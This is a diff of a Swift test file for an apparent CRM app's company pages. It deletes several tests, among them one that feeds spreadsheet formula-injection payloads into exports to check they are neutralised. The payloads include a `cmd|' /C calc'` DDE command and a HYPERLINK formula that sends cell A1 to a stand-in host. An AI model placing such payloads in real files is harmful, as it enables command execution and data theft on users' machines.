@@ -32,6 +32,10 @@ import Testing
         return company
     }
 
+    static func escaped(_ query: String) -> String {
+        query.addingPercentEncoding(withAllowedCharacters: .urlQueryAllowed) ?? ""
+    }
+
     @Test func `each field filters`() async throws {
         try await Site.with { site in
             let run = EntityID<ImportLog>(), owner = EntityID<User>()
@@ -189,83 +193,6 @@ import Testing
         #expect(html.matches(of: #/<script(?![^>]* src="\/assets\/)/#).isEmpty)
     }
 
-    @Test func `an error stands at its field with what was typed, and the next try succeeds`() async throws {
-        try await Site.with { site in
-            let company = Self.company("شركة أفق")
-            try await site.platform.store.insert(company)
-            let editor = try await site.browser(.sales)
-            let refused = try await editor.post(
-                "/companies/\(company.id)", [("nameAr", "شركة أفق"), ("website", "not a site")])
-            #expect(refused.status == .unprocessableContent)
-            #expect(refused.text.contains(#"id="f-website-error""#) && refused.text.contains(#"value="not a site""#))
-            let saved = try await editor.post(
-                "/companies/\(company.id)", [("nameAr", "شركة أفق"), ("website", "ufuq.sa")])
-            #expect(saved.status == .seeOther && saved.headers[.location] == "/companies/\(company.id)")
-            #expect(try await site.platform.companies.get(company.id).website == "https://ufuq.sa")
-        }
-    }
-
-    @Test func `a company of the same name is shown before another one is made`() async throws {
-        try await Site.with { site in
-            let stored = Self.company("شركة أفق البناء")
-            try await site.platform.store.insert(stored)
-            let editor = try await site.browser(.manager)
-            let asked = try await editor.post("/companies", [("nameAr", "شركه افق البناء")])
-            #expect(asked.status == .conflict && asked.text.contains("/companies/\(stored.id)"))
-            #expect(try await site.platform.store.count(Company.self) == 1)
-            let made = try await editor.post("/companies", [("nameAr", "شركه افق البناء"), ("isAnother", "true")])
-            #expect(made.status == .seeOther)
-            #expect(try await site.platform.store.count(Company.self) == 2)
-        }
-    }
-
-    @Test func `who edits what somebody else changed sees both versions and may save again`() async throws {
-        try await Site.with { site in
-            let company = Self.company("شركة أفق")
-            try await site.platform.store.insert(company)
-            let stamp = try #require(try await site.platform.companies.get(company.id).updatedAt).milliseconds
-            let editor = try await site.browser(.sales)
-            site.clock.advance(by: 5)
-            _ = try await editor.post("/companies/\(company.id)", [("city", "جدة"), ("updatedAt", "\(stamp)")])
-            site.clock.advance(by: 5)
-            let second = try await editor.post(
-                "/companies/\(company.id)", [("city", "الدمام"), ("updatedAt", "\(stamp)")])
-            #expect(second.status == .conflict)
-            #expect(second.text.contains("<del") && second.text.contains("جدة") && second.text.contains("الدمام"))
-            #expect(try await site.platform.companies.get(company.id).city == "جدة")
-            let shown = try #require(second.text.firstMatch(of: #/name="updatedAt" value="([0-9]+)"/#)).1
-            let third = try await editor.post(
-                "/companies/\(company.id)", [("city", "الدمام"), ("updatedAt", String(shown))])
-            #expect(third.status == .seeOther)
-            #expect(try await site.platform.companies.get(company.id).city == "الدمام")
-        }
-    }
-
-    @Test func `who edits what is archived, merged or gone meanwhile is told so, and nothing is saved`() async throws {
-        try await Site.with { site in
-            let editor = try await site.browser(.manager)
-            let companies = ["المؤرشفة", "المدموجة", "الباقية"].map { Self.company($0) }
-            try await site.platform.store.insert(companies)
-            func typed(_ company: Company) async throws -> TestResponse {
-                try await editor.post("/companies/\(company.id)", [("city", "جدة"), ("updatedAt", "1")])
-            }
-            _ = try await editor.json(.post, "/api/companies/\(companies[0].id)/archive")
-            let archived = try await typed(companies[0])
-            #expect(archived.status == .conflict && archived.text.contains("أرشف مستخدم آخر هذا السجل"))
-            let merge: Value = ["otherId": .id(companies[1].id.raw)]
-            let merged = try await editor.json(.post, "/api/companies/\(companies[2].id)/merge", merge)
-            #expect(merged.status == .ok)
-            let late = try await typed(companies[1])
-            #expect(late.status == .conflict && late.text.contains("دُمج هذا السجل في سجل آخر"))
-            let again = try await editor.post("/companies/\(companies[1].id)", [("city", "جدة")])
-            #expect(again.status == .conflict)
-            let gone = try await typed(Self.company("المحذوفة"))
-            #expect(gone.status == .notFound && gone.text.contains("لم يعد السجل موجودا"))
-            #expect(try await editor.get("/companies/\(Company().id)").text.contains("الصفحة غير موجودة"))
-            #expect(try await site.platform.store.count(Company.self, where: .equals("city", "جدة")) == 0)
-        }
-    }
-
     @Test func `the API creates, changes on a condition, archives, restores and tells the story`() async throws {
         try await Site.with { site in
             let editor = try await site.browser(.sales)
@@ -341,114 +268,5 @@ import Testing
             #expect(try await viewer.get("/companies/export").status == .forbidden)
             #expect(try await site.platform.companies.get(company.id).nameAr == "شركة أفق")
         }
-    }
-}
-
-extension CompanyRoutesTests {
-    static func escaped(_ query: String) -> String {
-        query.addingPercentEncoding(withAllowedCharacters: .urlQueryAllowed) ?? ""
-    }
-
-    /// Cells that a spreadsheet program would run (quality W-20).
-    static let formulas: [String] = {
-        let heads = ["=", "+", "-", "@", "\t=", "\r=", "=\"", "＝", "'=", " ="]
-        let tails = [
-            "1+1", "cmd|' /C calc'!A0", "HYPERLINK(\"http://x.sa?\"&A1,\"go\")", "SUM(A1:A9)",
-            "WEBSERVICE(\"http://x\")", "DDE(\"a\";\"b\")",
-        ]
-        return heads.flatMap { head in tails.map { head + $0 } }
-    }()
-
-    @Test func `no cell of an export is a formula, and .csv reads back as it was`() async throws {
-        #expect(Self.formulas.count == 60)
-        try await Site.with { site in
-            let companies = Self.formulas.map { formula in
-                Self.company(formula) {
-                    $0.city = formula
-                    $0.customFields = ["ملاحظة": .string(formula)]
-                }
-            }
-            try await site.platform.store.insert(companies)
-            let manager = try await site.browser(.manager)
-            for format in ["xlsx", "csv"] {
-                let answer = try await manager.get("/companies/export?format=\(format)")
-                #expect(
-                    answer.status == .ok
-                        && answer.headers[.contentDisposition] == "attachment; filename=\"companies.\(format)\"")
-                let file = FileManager.default.temporaryDirectory.appendingPathComponent("\(ObjectID()).\(format)")
-                defer { try? FileManager.default.removeItem(at: file) }
-                try Data(answer.body.readableBytesView).write(to: file)
-                let rows = try Self.rows(file)
-                #expect(rows.count == 61)
-                for row in rows.dropFirst() where format == "csv" {
-                    let cell = row.first ?? ""
-                    #expect(!["=", "+", "-", "@", "\t", "\r"].contains { cell.hasPrefix($0) }, "\(cell)")
-                }
-                let first = Set(
-                    rows.dropFirst().compactMap(\.first).map { format == "csv" ? CSVWriter.unguarded($0) : $0 })
-                #expect(
-                    first.isSuperset(
-                        of: Self.formulas.filter { !$0.contains("\r") && !$0.contains("\t") && $0.first != " " }))
-            }
-            let left = FileManager.default.enumerator(
-                atPath: site.platform.folder.appendingPathComponent("exports").path)?.allObjects
-            #expect(left?.count == 0)
-            #expect(try await site.platform.store.count(AuditLog.self, where: .equals("action", "export")) == 2)
-        }
-    }
-
-    @Test(arguments: ["ar", "en"]) func `an exported list can be imported, each column known`(_ language: String)
-        async throws
-    {
-        try await Site.with { site in
-            var company = Self.company("شركة أفق") {
-                for field in CompanyField.allCases where !["leadScore", "tags"].contains(field.rawValue) {
-                    $0[field] = $0[field] ?? "x"
-                }
-            }
-            company.linkedinUrl = "https://www.linkedin.com/company/ufuq"
-            var person = Person()
-            for field in PersonField.allCases where field != .isDecisionMaker { person[field] = "x" }
-            (person.fullName, person.companyNameAr) = ("نورة", "شركة أفق")
-            try await site.platform.store.insert(company)
-            try await site.platform.store.insert(person)
-            let manager = try await site.browser(.manager)
-            _ = try await manager.post("/language", [("language", language)])
-            for (list, other) in [("companies", ColumnTarget.company(.nameAr)), ("people", .person(.fullName))] {
-                let csv = try await manager.get("/\(list)/export?format=csv")
-                let path = try #require(
-                    try await manager.upload("/imports", Data(csv.body.readableBytesView)).headers[.location])
-                let file = try #require(
-                    site.platform.imports.uploads.file(String(path.split(separator: "/").last ?? "")))
-                let sheet = try #require(try await site.platform.imports.detect(file).file.sheets.first)
-                let unknown = sheet.columns.filter { $0.target == .custom || $0.target == .ignored }.map(\.header)
-                #expect(unknown.isEmpty)
-                #expect(sheet.columns.contains { $0.target == other })
-                let links = sheet.columns.map(\.target).filter {
-                    $0 == .company(.linkedinUrl) || $0 == .person(.linkedinUrl)
-                }
-                #expect(links == [list == "companies" ? .company(.linkedinUrl) : .person(.linkedinUrl)])
-            }
-        }
-    }
-
-    @Test func `sales take a thousand rows along, managers all, and each export is in the audit log`() async throws {
-        try await Site.with { site in
-            try await site.platform.store.insert((0..<1_003).map { Self.company("شركة \($0)") })
-            for (role, wanted) in [(User.Role.sales, 1_001), (.manager, 1_004), (.admin, 1_004)] {
-                let answer = try await site.browser(role).get("/api/companies/export?format=csv")
-                #expect(answer.text.split(separator: "\r\n").count == wanted)
-            }
-            let entries = try await site.platform.store.find(Query<AuditLog>(.equals("action", "export")))
-            #expect(Set(entries.compactMap { $0.metadata?.object?["rows"]?.int }) == [1_000, 1_003])
-        }
-    }
-
-    private static func rows(_ file: URL) throws -> [[String]] {
-        let workbook = try Workbook(path: file.path)
-        let reader = try workbook.rows(of: 0)
-        var rows: [[String]] = []
-        while try reader.next() { rows.append(reader.row.cells.map { String($0.text) }) }
-        return rows
     }
 }
